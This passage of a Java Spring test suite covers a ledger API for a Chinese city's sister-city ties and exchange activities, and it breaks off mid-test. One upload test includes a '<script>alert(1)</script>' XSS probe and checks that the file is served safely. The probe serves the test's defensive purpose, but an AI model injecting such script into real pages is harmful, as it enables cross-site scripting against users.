package org.youcheng.ledger;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.delete;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.put;
import static org.youcheng.ledger.LedgerApi.row;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MvcResult;
import org.springframework.web.context.WebApplicationContext;
import org.youcheng.common.PartialDate;
import org.youcheng.ledger.internal.ActivityRepository;
import org.youcheng.ledger.internal.LedgerService;
import org.youcheng.registry.TieDraft;
import org.youcheng.registry.TieKind;
import org.youcheng.registry.TieService;
import org.youcheng.registry.TieStatus;
import org.youcheng.registry.internal.PlaceRepository;
import org.youcheng.security.Role;
import org.youcheng.support.OperatorTies;
import org.youcheng.support.TestAccounts;
import org.youcheng.support.TestData;

/** The exchange ledger through its API; run on H2 and on PostgreSQL by the subclasses. */
abstract class LedgerTests {

    static final List<String> DELEGATION = List.of(
            "place",
            "partners",
            "partner_country",
            "direction",
            "leader_level",
            "head_count",
            "started_on",
            "ended_on",
            "purpose");

    @Autowired
    WebApplicationContext context;

    @Autowired
    JdbcClient db;

    @Autowired
    ObjectMapper json;

    @Autowired
    PlaceRepository places;

    @Autowired
    TieService tieService;

    LedgerApi admin;
    long liaocheng;
    long linqing;
    long qingdao;
    long osaka;
    long shimonoseki;
    long paris;
    long osakaTie;
    long shimonosekiTie;
    long parisTie;
    long linqingTie;
    /** the year the figures are for: last year, so that its ties are not dormant whenever the tests run */
    int y;

    @BeforeEach
    void reset() {
        TestData.reset(db);
        admin = new LedgerApi(TestAccounts.withToken(context, TestAccounts.admin(context)), json);
        liaocheng = id("CN-371500");
        linqing = id("CN-371581");
        qingdao = id("CN-370200");
        osaka = id("Q35765");
        shimonoseki = id("Q203308");
        paris = id("Q90");
        y = LocalDate.now().getYear() - 1;
        OperatorTies ties = new OperatorTies(tieService);
        osakaTie = tie(ties, liaocheng, osaka, "2010");
        shimonosekiTie = tie(ties, liaocheng, shimonoseki, "2000");
        parisTie = tie(ties, liaocheng, paris, "2001");
        linqingTie = tie(ties, linqing, paris, (y) + "-05-01");
    }

    long id(String code) {
        return places.findByCode(code)
                .orElseThrow(() -> new AssertionError(code + " missing"))
                .id();
    }

    static long tie(OperatorTies ties, long domestic, long partner, String signed) {
        return ties.create(new TieDraft(
                        domestic,
                        partner,
                        TieKind.PARTNER,
                        PartialDate.parse(signed),
                        TieStatus.ACTIVE,
                        null,
                        null,
                        null,
                        null))
                .tie()
                .tie()
                .id();
    }

    Map<String, Object> delegation(
            long place, long partner, String direction, String level, Object heads, String start) {
        Map<String, Object> m = new HashMap<>(Map.of(
                "type",
                "delegation",
                "place_id",
                place,
                "partners",
                List.of(Map.of("place_id", partner)),
                "direction",
                direction,
                "leader_level",
                level,
                "head_count",
                heads,
                "started_on",
                start));
        return m;
    }

    int activities() {
        return db.sql("select count(*) from activity").query(Integer.class).single();
    }

    @Autowired
    ActivityRepository repository;

    @Test
    void aReferenceTieOrOneSetAsideIsNeverCalledDormant() throws Exception {
        // two ties of 聊城市 that only the Wikidata network states, one of them left out by an official list
        long rome = org.youcheng.support.ReferenceTies.add(db, liaocheng, id("Q220"));
        long vienna = org.youcheng.support.ReferenceTies.add(db, liaocheng, id("Q1741"));
        org.youcheng.support.ReferenceTies.setAside(db, vienna, LocalDate.now(), "not on the official list");

        JsonNode health = admin.call(get("/api/v1/places/{id}/tie-health", liaocheng), 200);

        assertThat(health.get("ties"))
                .extracting(t -> t.get("tie_id").asLong())
                .doesNotContain(rome, vienna)
                .contains(parisTie);
        // with no exchange recorded at all, nothing can be called dormant: the ledger is not kept yet
        assertThat(health.get("ledger_kept").asBoolean()).isFalse();
        assertThat(health.get("dormant")).isEmpty();
        // once the office records an exchange on its Osaka tie, its own ties of 2000 and 2001 are dormant; the
        // reference ties never are
        recentDelegationOnOsaka();
        health = admin.call(get("/api/v1/places/{id}/tie-health", liaocheng), 200);
        assertThat(health.get("ledger_kept").asBoolean()).isTrue();
        assertThat(health.get("dormant"))
                .extracting(JsonNode::asLong)
                .containsExactlyInAnyOrder(shimonosekiTie, parisTie);
        assertThat(admin.call(get("/api/v1/ties/{id}/activities", rome), 200)
                        .get("health")
                        .isNull())
                .isTrue();
    }

    /** A delegation received last month on 聊城's Osaka tie, written in SQL. */
    void recentDelegationOnOsaka() {
        db.sql("""
                insert into activity (type, place_id, tie_id, started_on, direction, leader_level, head_count,
                                      created_at, updated_at)
                values ('delegation', :p, :t, :on, 'received', 'mayor', 3, :now, :now)""")
                .param("p", liaocheng)
                .param("t", osakaTie)
                .param("on", LocalDate.now().minusMonths(1))
                .param("now", java.time.OffsetDateTime.now())
                .update();
    }

    @Test
    void anIntentIsNeverDormantAndATieSignedWithinTheWindowIsNot() throws Exception {
        OperatorTies ties = new OperatorTies(tieService);
        long intent = ties.create(new TieDraft(
                        liaocheng,
                        id("Q1741"),
                        TieKind.INTENT,
                        PartialDate.parse("1999"),
                        TieStatus.ACTIVE,
                        null,
                        null,
                        null,
                        null))
                .tie()
                .tie()
                .id();
        long recent = tie(ties, liaocheng, id("Q220"), (LocalDate.now().getYear() - 1) + "-03-01");
        recentDelegationOnOsaka();
        JsonNode health = admin.call(get("/api/v1/places/{id}/tie-health", liaocheng), 200);
        assertThat(health.get("dormant"))
                .extracting(JsonNode::asLong)
                .doesNotContain(intent, recent, osakaTie)
                .contains(shimonosekiTie, parisTie);
    }

    @Test
    void aBatchWrittenInAnotherOrderGivesEveryDraftItsOwnIdAndForeignSide() {
        // H2 writes a batch ordered by place and date (ActivityRepository.insert); the ids must still follow the
        // caller's order and each row keep its own fields and partners
        long[] placesInOrder = {qingdao, liaocheng, linqing, liaocheng, qingdao, linqing};
        String[] dates = {"2020-05-01", "2021-03-02", "2019-01-09", "2018-07-30", "2020-01-01", "2022-12-31"};
        List<ActivityDraft> drafts = new java.util.ArrayList<>();
        for (int i = 0; i < placesInOrder.length; i++) {
            List<Partner> partners = i % 2 == 0
                    ? List.of(Partner.place(osaka), Partner.organisation("Org " + i))
                    : List.of(Partner.organisation("Org " + i));
            drafts.add(new Delegation(
                    new ActivityCommon(
                            placesInOrder[i], null, partners, null, LocalDate.parse(dates[i]), null, null, null),
                    Direction.RECEIVED,
                    LeaderLevel.MAYOR,
                    10 + i,
                    "purpose " + i));
        }
        List<Long> ids = repository.insert(drafts, null, java.time.Instant.now());
        assertThat(ids).hasSize(drafts.size()).doesNotHaveDuplicates();
        for (int i = 0; i < drafts.size(); i++) {
            Activity a = repository.find(ids.get(i)).orElseThrow();
            assertThat(a.draft().placeId()).isEqualTo(placesInOrder[i]);
            assertThat(a.draft().startedOn()).isEqualTo(LocalDate.parse(dates[i]));
            assertThat(a.draft()).isEqualTo(drafts.get(i));
            assertThat(a.draft().partners()).isEqualTo(drafts.get(i).partners());
        }
    }

    @Test
    void aYearOfActivitiesFromTheApiAndAWorkbookGivesTheFiguresCountedByHand() throws Exception {
        // through the API
        JsonNode d1 = admin.create(delegation(liaocheng, osaka, "received", "mayor", 12, y + "-03-10"), 201);
        assertThat(d1.get("tie_id").asLong()).as("put on its tie").isEqualTo(osakaTie);
        assertThat(d1.get("direction").asText()).isEqualTo("received");
        assertThat(d1.get("foreign_side").get(0).get("code").asText()).isEqualTo("Q35765");
        admin.create(delegation(liaocheng, shimonoseki, "出访", "副市长", 6, y + "年5月2日"), 201);
        admin.create(delegation(linqing, paris, "received", "mayor", 5, y + "-04-01"), 201); // a county's
        admin.create(delegation(liaocheng, osaka, "received", "mayor", 30, (y - 1) + "-12-31"), 201); // before
        admin.create(
                Map.of(
                        "type",
                        "event",
                        "place_id",
                        liaocheng,
                        "tie_id",
                        osakaTie,
                        "event_kind",
                        "forum",
                        "online",
                        "云外事",
                        "started_on",
                        y + "-06-01"),
                201);
        admin.create(
                Map.of(
                        "type",
                        "agreement",
                        "place_id",
                        liaocheng,
                        "partners",
                        List.of(Map.of("place_id", osaka), Map.of("organisation", "大阪商工会议所")),
                        "agreement_type",
                        "备忘录",
                        "started_on",
                        y + "-06-01",
                        "parties",
                        "聊城市人民政府、大阪市"),
                201);
        admin.create(
                Map.of(
                        "type",
                        "project",
                        "place_id",
                        liaocheng,
                        "partners",
                        List.of(Map.of("place_id", osaka)),
                        "domain",
                        "education",
                        "status",
                        "ongoing",
                        "title",
                        "中日学校合作",
                        "outcome",
                        "两校互派教师",
                        "amount",
                        "1000000",
                        "started_on",
                        y + "-07-01"),
                201);
        admin.create(
                Map.of(
                        "type",
                        "award",
                        "place_id",
                        liaocheng,
                        "title",
                        "交流合作奖",
                        "granting_body",
                        "中国国际友好城市联合会",
                        "year",
                        y,
                        "recipient_kind",
                        "place",
                        "recipient",
                        "聊城市"),
                201);

        // from a workbook, one sheet per type
        byte[] workbook = LedgerApi.workbook(
                new LedgerApi.Sheet(
                        "delegation",
                        DELEGATION,
                        List.of(
                                row("聊城市", "大阪市", "日本", "来访", "省长", 20, y + "-09-01", y + "-09-03", "友城交流"),
                                row("聊城市", "下关市", "日本", "sent", "mayor", 8, y + "-10-10", null, null))),
                new LedgerApi.Sheet(
                        "活动",
                        List.of("中方", "外方", "国家", "活动类别", "线上", "开始日期"),
                        List.of(
                                row("聊城市", "大阪市", "日本", "文化周", "线下", y + "-08-01"),
                                row("聊城市", "下关市", "日本", "youth camp", "true", y + "-08-15"))),
                new LedgerApi.Sheet(
                        "agreement",
                        List.of("place", "partners", "partner_country", "agreement_type", "started_on"),
                        List.of(row("聊城市", "大阪市", "日本", "年度交流合作协议", y + "-11-11"))),
                new LedgerApi.Sheet(
                        "合作项目",
                        List.of("中方", "外方机构", "领域", "状态", "成果", "开始日期", "金额", "币种"),
                        List.of(
                                row("聊城市", "大阪港湾局", "ports", "proposed", null, y + "-02-02", null, null),
                                row(
                                        "聊城市",
                                        "巴黎工商会",
                                        "trade",
                                        "completed",
                                        "签约投资项目3个",
                                        y + "-12-31",
                                        "250000.50",
                                        "EUR"))));
        JsonNode report = admin.importFile("ledger.xlsx", workbook, false, 200);
        assertThat(report.get("added").asInt()).isEqualTo(7);
        assertThat(activities()).isEqualTo(8 + 7);

        JsonNode f = admin.call(
                get("/api/v1/places/{id}/activity", liaocheng)
                        .param("from", y + "-01-01")
                        .param("to", y + "-12-31"),
                200);
        // counted by hand from the rows above
        assertThat(f.get("activities").asInt()).isEqualTo(6 + 7);
        JsonNode received = f.get("received");
        assertThat(received.get("count").asInt()).isEqualTo(2);
        assertThat(received.get("person_times").asInt()).isEqualTo(12 + 20);
        assertThat(received.get("by_leader_level")
                        .get("mayor")
                        .get("person_times")
                        .asInt())
                .isEqualTo(12);
        assertThat(received.get("by_leader_level")
                        .get("governor")
                        .get("delegations")
                        .asInt())
                .isEqualTo(1);
        assertThat(received.get("by_leader_level")
                        .get("vice_mayor")
                        .get("delegations")
                        .asInt())
                .isZero();
        JsonNode sent = f.get("sent");
        assertThat(sent.get("count").asInt()).isEqualTo(2);
        assertThat(sent.get("person_times").asInt()).isEqualTo(6 + 8);
        assertThat(sent.get("by_leader_level")
                        .get("vice_mayor")
                        .get("person_times")
                        .asInt())
                .isEqualTo(6);
        assertThat(sent.get("by_leader_level").get("mayor").get("person_times").asInt())
                .isEqualTo(8);
        JsonNode events = f.get("events");
        assertThat(events.get("count").asInt()).isEqualTo(3);
        assertThat(events.get("online").asInt()).isEqualTo(2);
        assertThat(events.get("in_person").asInt()).isEqualTo(1);
        assertThat(events.get("by_kind").get("culture_week").asInt()).isEqualTo(1);
        assertThat(events.get("online_by_kind").get("youth_camp").asInt()).isEqualTo(1);
        assertThat(events.get("online_by_kind").get("forum").asInt()).isEqualTo(1);
        assertThat(f.get("agreements").get("count").asInt()).isEqualTo(2);
        assertThat(f.get("agreements").get("by_type").get("memorandum").asInt()).isEqualTo(1);
        assertThat(f.get("agreements").get("by_type").get("annual_plan").asInt())
                .isEqualTo(1);
        JsonNode projects = f.get("projects");
        assertThat(projects.get("count").asInt()).isEqualTo(3);
        assertThat(projects.get("by_domain").get("education").asInt()).isEqualTo(1);
        assertThat(projects.get("by_domain").get("ports").asInt()).isEqualTo(1);
        assertThat(projects.get("by_domain").get("trade").asInt()).isEqualTo(1);
        assertThat(projects.get("by_status").get("ongoing").asInt()).isEqualTo(1);
        assertThat(projects.get("by_status").get("proposed").asInt()).isEqualTo(1);
        assertThat(projects.get("by_status").get("completed").asInt()).isEqualTo(1);
        assertThat(projects.get("amounts").get("CNY").decimalValue()).isEqualByComparingTo("1000000");
        assertThat(projects.get("amounts").get("EUR").decimalValue()).isEqualByComparingTo("250000.50");
        assertThat(f.get("outcomes")).hasSize(2);
        assertThat(f.get("outcomes").get(0).get("outcome").asText()).isEqualTo("两校互派教师");
        assertThat(f.get("outcomes").get(1).get("outcome").asText()).isEqualTo("签约投资项目3个");
        assertThat(f.get("awards")).hasSize(1);
        assertThat(f.get("awards").get(0).get("title").asText()).isEqualTo("交流合作奖");
        assertThat(f.get("awards").get(0).get("year").asInt()).isEqualTo(y);

        JsonNode all = admin.call(
                get("/api/v1/places/{id}/activity", liaocheng)
                        .param("from", y + "-01-01")
                        .param("to", y + "-12-31")
                        .param("includeSubordinates", "true"),
                200);
        assertThat(all.get("activities").asInt()).isEqualTo(6 + 7 + 1);
        assertThat(all.get("received").get("person_times").asInt()).isEqualTo(12 + 20 + 5);
        assertThat(all.get("places").asInt()).isGreaterThan(1);

        // the period's bounds are inclusive: the delegation of the last day of the year before is its own
        JsonNode before = admin.call(
                get("/api/v1/places/{id}/activity", liaocheng)
                        .param("from", (y - 1) + "-12-31")
                        .param("to", (y - 1) + "-12-31"),
                200);
        assertThat(before.get("received").get("person_times").asInt()).isEqualTo(30);

        // tie health: Osaka's tie is busy and has an ongoing project; Paris's (signed 2001) has nothing: dormant;
        // Shimonoseki's (signed 2000) is kept alive by last year's delegations
        JsonNode health = admin.call(get("/api/v1/places/{id}/tie-health", liaocheng), 200);
        assertThat(health.get("dormant_after_years").asInt()).isEqualTo(3);
        assertThat(health.get("dormant")).extracting(JsonNode::asLong).containsExactly(parisTie);
        JsonNode osakaHealth = byTie(health.get("ties"), osakaTie);
        assertThat(osakaHealth.get("substantive_project").asBoolean()).isTrue();
        assertThat(osakaHealth.get("dormant").asBoolean()).isFalse();
        assertThat(osakaHealth.get("last_activity").asText()).isEqualTo(y + "-11-11");
        assertThat(osakaHealth.get("activities_per_year").get(String.valueOf(y)).asInt())
                .isEqualTo(7);
        assertThat(osakaHealth
                        .get("activities_per_year")
                        .get(String.valueOf(y - 1))
                        .asInt())
                .isEqualTo(1);
        assertThat(byTie(health.get("ties"), shimonosekiTie)
                        .get("substantive_project")
                        .asBoolean())
                .isFalse();
        assertThat(byTie(health.get("ties"), shimonosekiTie).get("dormant").asBoolean())
                .isFalse();
        assertThat(byTie(health.get("ties"), parisTie).get("last_activity").isNull())
                .isTrue();
        JsonNode withCounty =
                admin.call(get("/api/v1/places/{id}/tie-health", liaocheng).param("includeSubordinates", "true"), 200);
        assertThat(withCounty.get("ties")).hasSize(4);
        assertThat(withCounty.get("dormant")).extracting(JsonNode::asLong).containsExactly(parisTie);

        JsonNode tieLedger = admin.call(get("/api/v1/ties/{id}/activities", osakaTie), 200);
        assertThat(tieLedger.get("activities")).hasSize(8);
        assertThat(tieLedger.get("health").get("tie_id").asLong()).isEqualTo(osakaTie);
        JsonNode timeline = admin.call(
                get("/api/v1/places/{id}/activities", liaocheng)
                        .param("from", y + "-01-01")
                        .param("to", y + "-12-31"),
                200);
        assertThat(timeline).hasSize(13);
        assertThat(timeline.get(0).get("started_on").asText()).isEqualTo(y + "-12-31");
    }

    static JsonNode byTie(JsonNode ties, long id) {
        for (JsonNode t : ties) {
            if (t.get("tie_id").asLong() == id) {
                return t;
            }
        }
        throw new AssertionError("no tie " + id + " in " + ties);
    }

    @Test
    void readUpdateStaleUpdateDelete() throws Exception {
        JsonNode a = admin.create(delegation(liaocheng, osaka, "received", "mayor", 12, y + "-03-10"), 201);
        long id = a.get("id").asLong();
        assertThat(admin.call(get("/api/v1/activities/{id}", id), 200)
                        .get("head_count")
                        .asInt())
                .isEqualTo(12);
        Map<String, Object> change = delegation(liaocheng, osaka, "received", "mayor", 14, y + "-03-10");
        change.put("version", 0);
        JsonNode updated = admin.call(
                put("/api/v1/activities/{id}", id)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content(json.writeValueAsString(change)),
                200);
        assertThat(updated.get("version").asInt()).isEqualTo(1);
        assertThat(updated.get("head_count").asInt()).isEqualTo(14);
        change.put("head_count", 99);
        JsonNode stale = admin.call(
                put("/api/v1/activities/{id}", id)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content(json.writeValueAsString(change)),
                409);
        assertThat(stale.get("current").get("version").asInt()).isEqualTo(1);
        assertThat(stale.get("current").get("head_count").asInt()).isEqualTo(14);
        admin.call(delete("/api/v1/activities/{id}", id).param("version", "0"), 409);
        admin.call(delete("/api/v1/activities/{id}", id).param("version", "1"), 204);
        admin.call(get("/api/v1/activities/{id}", id), 404);

        List<String> actions = db.sql(
                        "select action from audit_event where entity = 'activity' and entity_id = :id " + "order by id")
                .param("id", id)
                .query(String.class)
                .list();
        assertThat(actions).containsExactly("activity_create", "activity_update", "activity_delete");
        String after = db.sql("select after_json from audit_event where entity = 'activity' and entity_id = :id "
                        + "and action = 'activity_update'")
                .param("id", id)
                .query(String.class)
                .single();
        assertThat(after).contains("\"head_count\":14");
    }

    @Test
    void anActivityIsOneFlatObjectWithEveryFieldOfEveryTypeInTheApiAndTheAuditTrail() throws Exception {
        JsonNode a = admin.create(delegation(liaocheng, osaka, "received", "mayor", 12, y + "-03-10"), 201);
        JsonNode read = admin.call(get("/api/v1/activities/{id}", a.get("id").asLong()), 200);
        List<String> names = new java.util.ArrayList<>();
        read.fieldNames().forEachRemaining(names::add);
        assertThat(names)
                .containsExactly(
                        "id",
                        "type",
                        "place_id",
                        "tie_id",
                        "partners",
                        "title",
                        "started_on",
                        "ended_on",
                        "direction",
                        "leader_level",
                        "head_count",
                        "purpose",
                        "event_kind",
                        "online",
                        "venue",
                        "agreement_type",
                        "parties",
                        "domain",
                        "status",
                        "outcome",
                        "amount",
                        "currency",
                        "granting_body",
                        "year",
                        "recipient_kind",
                        "recipient",
                        "sources",
                        "note",
                        "place",
                        "foreign_side",
                        "files",
                        "version",
                        "created_at",
                        "updated_at");
        assertThat(read.get("type").asText()).isEqualTo("delegation");
        assertThat(read.get("leader_level").asText()).isEqualTo("mayor");
        assertThat(read.get("started_on").asText()).isEqualTo(y + "-03-10");
        assertThat(read.get("venue").isNull()).isTrue();
        assertThat(read.get("partners").get(0).get("place_id").asLong()).isEqualTo(osaka);
        String audited = db.sql("select after_json from audit_event where entity = 'activity' and entity_id = :id")
                .param("id", a.get("id").asLong())
                .query(String.class)
                .single();
        assertThat(audited)
                .contains(
                        "\"direction\":\"received\"",
                        "\"head_count\":12",
                        "\"venue\":null",
                        "\"started_on\":\"" + y + "-03-10\"");
    }

    @Test
    void filesAreStoredWithTheirHashAndServedSafely() throws Exception {
        long id = admin.create(delegation(liaocheng, osaka, "received", "mayor", 12, y + "-03-10"), 201)
                .get("id")
                .asLong();
        byte[] pdf = "%PDF-1.4 an agreement".getBytes(StandardCharsets.US_ASCII);
        JsonNode f = admin.call(
                multipart("/api/v1/activities/{id}/files", id)
                        .file(new MockMultipartFile("file", "协议.pdf", "text/html", pdf)),
                201);
        assertThat(f.get("sha256").asText())
                .isEqualTo(LedgerService.sha256(pdf))
                .hasSize(64);
        assertThat(f.get("content_type").asText())
                .as("from the bytes, not the claim")
                .isEqualTo("application/pdf");
        MvcResult served = context.getBean(org.springframework.test.web.servlet.MockMvc.class)
                .perform(get(
                                "/api/v1/activities/{id}/files/{f}",
                                id,
                                f.get("key").asText())
                        .header("Authorization", "Bearer " + TestAccounts.admin(context)))
                .andReturn();
        assertThat(served.getResponse().getStatus()).isEqualTo(200);
        assertThat(served.getResponse().getContentType()).isEqualTo("application/pdf");
        assertThat(served.getResponse().getHeader("Content-Disposition")).startsWith("attachment");
        assertThat(served.getResponse().getHeader("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(served.getResponse().getContentAsByteArray()).isEqualTo(pdf);
        byte[] html = "<script>alert(1)</script>".getBytes(StandardCharsets.UTF_8);
        JsonNode h = admin.call(
                multipart("/api/v1/activities/{id}/files", id)
                        .file(new MockMultipartFile("file", "x.html", "text/html", html)),
                201);
        assertThat(h.get("content_type").asText()).isEqualTo("application/octet-stream");
        assertThat(admin.call(get("/api/v1/activities/{id}", id), 200).get("files"))
                .hasSize(2);
        admin.call(delete("/api/v1/activities/{id}/files/{f}", id, h.get("key").asText()), 204);
        assertThat(admin.call(get("/api/v1/activities/{id}", id), 200).get("files"))
                .hasSize(1);
    }

    @Test
    void badInputOfEveryTypeNamesTheFieldAndChangesNothing() throws Exception {
        admin.create(delegation(liaocheng, osaka, "received", "mayor", 12, y + "-03-10"), 201);
        int before = activities();
        // delegation: missing required field, bad date, end before start, negative head count
        Map<String, Object> missing = delegation(liaocheng, osaka, "received", "mayor", 12, y + "-03-10");
        missing.remove("direction");
        assertThat(LedgerApi.fields(admin.create(missing, 400))).containsExactly("direction");
        assertThat(LedgerApi.fields(
                        admin.create(delegation(liaocheng, osaka, "received", "mayor", 12, y + "-02-30"), 400)))
                .containsExactly("started_on");
        Map<String, Object> ends = delegation(liaocheng, osaka, "received", "mayor", 12, y + "-03-10");
        ends.put("ended_on", y + "-03-01");
        assertThat(LedgerApi.fields(admin.create(ends, 400))).containsExactly("ended_on");
        assertThat(LedgerApi.fields(
                        admin.create(delegation(liaocheng, osaka, "received", "mayor", -3, y + "-03-10"), 400)))
                .containsExactly("head_count");
        assertThat(LedgerApi.fields(
                        admin.create(delegation(liaocheng, osaka, "sideways", "emperor", 2, "tomorrow"), 400)))
                .containsExactlyInAnyOrder("direction", "leader_level", "started_on");
        // event
        assertThat(LedgerApi.fields(admin.create(
                        Map.of(
                                "type",
                                "event",
                                "place_id",
                                liaocheng,
                                "tie_id",
                                osakaTie,
                                "event_kind",
                                "forum",
                                "started_on",
                                y + "-06-01"),
                        400)))
                .containsExactly("online");
        assertThat(LedgerApi.fields(admin.create(
                        Map.of(
                                "type",
                                "event",
                                "place_id",
                                liaocheng,
                                "tie_id",
                                osakaTie,
                                "event_kind",
                                "rave",
                                "online",
                                "maybe",
                                "started_on",
                                y + "/13/01"),
                        400)))
                .containsExactlyInAnyOrder("event_kind", "online", "started_on");
        assertThat(LedgerApi.fields(admin.create(
                        Map.of(
                                "type",
                                "event",
                                "place_id",
                                liaocheng,
                                "tie_id",
                                osakaTie,
                                "event_kind",
                                "forum",
                                "online",
                                false,
                                "started_on",
                                y + "-06-02",
                                "ended_on",
                                y + "-06-01"),
                        400)))
                .containsExactly("ended_on");
        assertThat(LedgerApi.fields(admin.create(
                        Map.of(
                                "type",
                                "event",
                                "place_id",
                                liaocheng,
                                "tie_id",
                                osakaTie,
                                "event_kind",
                                "forum",
                                "online",
                                false,
                                "started_on",
                                y + "-06-02",
                                "head_count",
                                4),
                        400)))
                .as("a field of another type")
                .containsExactly("head_count");
        // agreement
        assertThat(LedgerApi.fields(admin.create(
                        Map.of(
                                "type",
                                "agreement",
                                "place_id",
                                liaocheng,
                                "tie_id",
                                osakaTie,
                                "started_on",
                                y + "-06-01"),
                        400)))
                .containsExactly("agreement_type");
        assertThat(LedgerApi.fields(admin.create(
                        Map.of(
                                "type",
                                "agreement",
                                "place_id",
                                liaocheng,
                                "tie_id",
                                osakaTie,
                                "agreement_type",
                                "treaty",
                                "started_on",
                                "1.6." + y),
                        400)))
                .containsExactlyInAnyOrder("agreement_type", "started_on");
        // project
        assertThat(LedgerApi.fields(admin.create(
                        Map.of(
                                "type",
                                "project",
                                "place_id",
                                liaocheng,
                                "tie_id",
                                osakaTie,
                                "domain",
                                "astrology",
                                "status",
                                "ongoing",
                                "started_on",
                                y + "-06-01"),
                        400)))
                .containsExactly("domain");
        assertThat(LedgerApi.fields(admin.create(
                        Map.of(
                                "type",
                                "project",
                                "place_id",
                                liaocheng,
                                "tie_id",
                                osakaTie,
                                "domain",
                                "water",
                                "status",
                                "ongoing",
                                "started_on",
                                y + "-06-01",
                                "amount",
                                "-5"),
                        400)))
                .containsExactly("amount");
        assertThat(LedgerApi.fields(admin.create(
                        Map.of(
                                "type",
                                "project",
                                "place_id",
                                liaocheng,
                                "tie_id",
                                osakaTie,
                                "domain",
                                "water",
                                "started_on",
                                y + "-06-01",
                                "ended_on",
                                y + "-01-01"),
                        400)))
                .containsExactlyInAnyOrder("status", "ended_on");
        // award
        assertThat(LedgerApi.fields(admin.create(
                        Map.of(
                                "type",
                                "award",
                                "place_id",
                                liaocheng,
                                "title",
                                "交流合作奖",
                                "recipient_kind",
                                "place",
                                "recipient",
                                "聊城市"),
                        400)))
                .containsExactly("year");
        assertThat(LedgerApi.fields(admin.create(
                        Map.of(
                                "type",
                                "award",
                                "place_id",
                                liaocheng,
                                "title",
                                "交流合作奖",
                                "year",
                                "last year",
                                "recipient_kind",
                                "planet",
                                "recipient",
                                "聊城市"),
                        400)))
                .containsExactlyInAnyOrder("year", "recipient_kind");
        // the places: the Chinese side must be Chinese, the foreign side foreign, the tie the place's own
        assertThat(LedgerApi.fields(
                        admin.create(delegation(osaka, liaocheng, "received", "mayor", 3, y + "-03-10"), 400)))
                .containsExactly("place_id", "partners[0].place_id");
        assertThat(LedgerApi.fields(admin.create(
                        Map.of(
                                "type",
                                "event",
                                "place_id",
                                qingdao,
                                "tie_id",
                                osakaTie,
                                "event_kind",
                                "forum",
                                "online",
                                false,
                                "started_on",
                                y + "-06-02"),
                        400)))
                .containsExactly("tie_id");
        assertThat(LedgerApi.fields(admin.create(Map.of("type", "party", "place_id", liaocheng), 400)))
                .containsExactly("type");
        assertThat(activities()).isEqualTo(before);
    }

    @Test
    void badRowsOfEveryTypeAreAllReportedAndNothingIsImported() throws Exception {
        int before = activities();
        byte[] workbook = LedgerApi.workbook(
                new LedgerApi.Sheet(
                        "delegation",
                        DELEGATION,
                        List.of(
                                row("聊城市", "大阪市", "日本", "来访", "省长", 20, y + "-09-01", null, null),
                                row("聊城市", "大阪市", "日本", null, "mayor", 8, y + "-10-10", null, null),
                                row("聊城市", "大阪市", "日本", "sent", "mayor", -8, y + "-10-10", null, null),
                                row("聊城市", "大阪市", "日本", "sent", "mayor", 8, y + "-10-10", y + "-10-01", null))),
                new LedgerApi.Sheet(
                        "event",
                        List.of("place", "partners", "partner_country", "event_kind", "online", "started_on"),
                        List.of(row("聊城市", "大阪市", "日本", "forum", "线下", y + "-02-31"))),
                new LedgerApi.Sheet(
                        "agreement",
                        List.of("place", "partners", "partner_country", "agreement_type", "started_on"),
                        List.of(row("聊城市", "大阪市", "日本", null, y + "-11-11"))),
                new LedgerApi.Sheet(
                        "project",
                        List.of("place", "organisations", "domain", "status", "started_on"),
                        List.of(row("聊城市", "大阪港湾局", "space", "ongoing", y + "-02-02"))),
                new LedgerApi.Sheet(
                        "award",
                        List.of("place", "title", "year", "recipient_kind", "recipient"),
                        List.of(row("聊城市", "交流合作奖", null, "place", "聊城市"))));
        JsonNode report = admin.importFile("bad.xlsx", workbook, false, 422);
        assertThat(report.get("committed").asBoolean()).isFalse();
        assertThat(report.get("error_count").asInt()).isEqualTo(7);
        List<String> where = new java.util.ArrayList<>();
        report.get("errors")
                .forEach(e ->
                        where.add(e.get("row").asInt() + " " + e.get("column").asText()));
        assertThat(where)
                .containsExactly(
                        "3 delegation: direction",
                        "4 delegation: head_count",
                        "5 delegation: ended_on",
                        "2 event: started_on",
                        "2 agreement: agreement_type",
                        "2 project: domain",
                        "2 award: year");
        assertThat(activities()).isEqualTo(before);

        JsonNode notXlsx =
                admin.importFile("ledger.xlsx", "this is not a workbook".getBytes(StandardCharsets.UTF_8), false, 422);
        assertThat(notXlsx.get("errors").get(0).get("reason").asText()).contains("not a readable .xlsx");
        JsonNode badSheet = admin.importFile(
                "ledger.xlsx",
                LedgerApi.workbook(new LedgerApi.Sheet("Sheet1", List.of("place"), List.of(row("聊城市")))),
                false,
                422);
        assertThat(badSheet.get("errors").get(0).get("reason").asText()).contains("not named by an activity type");
        JsonNode csvUnknownPartner = admin.importFile(
                "a.csv",
                ("type,place,partners,partner_country,direction,"
                                + "leader_level,head_count,started_on\ndelegation,聊城市,Nowhereville,日本,received,mayor,3,"
                                + y + "-01-05\n")
                        .getBytes(StandardCharsets.UTF_8),
                false,
                422);
        assertThat(csvUnknownPartner.get("errors").get(0).get("column").asText())
                .isEqualTo("partners");
        assertThat(activities()).isEqualTo(before);
    }

    @Test
    void aCsvTableImportsAndADryRunWritesNothing() throws Exception {
        String csv = "\uFEFF类型,中方,外方,国家,方向,团长级别,人数,开始日期,活动类别,线上\n"
                + "代表团,聊城市,大阪市,日本,来访,市长,9," + y + "-04-04,,\n"
                + "活动,临清市,巴黎,法国,,,," + y + "-04-05,展览,否\n";
